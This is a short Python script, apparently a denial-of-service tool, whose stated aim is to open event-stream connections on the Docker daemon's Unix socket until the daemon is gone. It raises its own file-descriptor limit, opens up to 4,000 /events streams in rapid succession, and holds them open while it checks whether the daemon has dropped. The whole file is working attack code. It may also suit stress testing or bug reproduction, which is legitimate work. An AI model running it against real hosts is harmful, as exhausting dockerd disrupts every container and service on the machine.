"""A client that opens event streams on dockerd and never closes one, until dockerd is gone."""

from __future__ import annotations

import resource
import select
import socket
import time

REQUEST = b"GET /v1.41/events HTTP/1.1\r\nHost: localhost\r\n\r\n"
STREAMS = 4000
PATIENCE_S = 60.0


def main():
    """Open streams, a few hundred a second, and hold them."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (STREAMS + 64, STREAMS + 64))
    held = []
    try:
        for _ in range(STREAMS):
            stream = socket.socket(socket.AF_UNIX)
            stream.settimeout(PATIENCE_S)
            stream.connect("/run/docker.sock")
            stream.sendall(REQUEST)
            held.append(stream)
            time.sleep(0.003)
            if is_closed(held[0]):
                return
        time.sleep(PATIENCE_S)
    except OSError:
        return


def is_closed(stream):
    """Tell whether the other side is gone; what it sent before is thrown away."""
    readable, _, _ = select.select([stream], [], [], 0)
    return bool(readable) and stream.recv(1 << 16) == b""


if __name__ == "__main__":
    main()
